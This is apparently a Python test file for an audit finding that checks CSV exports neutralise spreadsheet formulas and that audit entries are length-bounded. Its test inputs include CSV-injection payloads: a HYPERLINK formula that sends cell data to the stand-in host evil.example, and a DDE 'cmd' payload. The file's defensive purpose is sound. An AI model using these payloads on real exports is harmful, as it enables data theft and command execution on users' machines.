"""Issue 21 finding 6: CSV exports carry no formulas; request paths are bounded in the audit."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

from core.csv_safety import FORMULA_PREFIXES, safe_cell
from db.users import Role
from tests.api.helpers import Api

FORMULAS = (
    # No "/" (an encoded slash would not match the case route): the formula builds its URL.
    '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example?",A1),"open")',
    "+1+cmd|' -C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def test_safe_cell() -> None:
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for data in ("-3", "+1.5", "42", "abc", "", None, 7):
        assert safe_cell(data) == data


async def test_audit_csv_neutralises_formulas_and_bounds_paths(api: Api) -> None:
    api.user("cw", Role.CASEWORKER)
    api.user("admin", Role.ADMIN)
    for text in FORMULAS:
        answer = await api.http.get(f"/cases/{quote(text, safe='')}", headers=api.auth("cw"))
        assert answer.status_code == 404
    long_id = "a" * 5000
    assert (await api.http.get(f"/cases/{long_id}", headers=api.auth("cw"))).status_code == 404

    log = (await api.http.get("/audit?user=cw", headers=api.auth("admin"))).json()["items"]
    assert len(log) == len(FORMULAS) + 1
    assert all(len(e["case_id"]) <= 64 and len(e["route"]) <= 200 for e in log), log
    assert log[-1]["case_id"] == long_id[:64]

    export = await api.http.get("/audit?user=cw&format=csv", headers=api.auth("admin"))
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert not dangerous, dangerous
    assert "'" + FORMULAS[0][:64] in cells  # bounded to the column, then neutralised
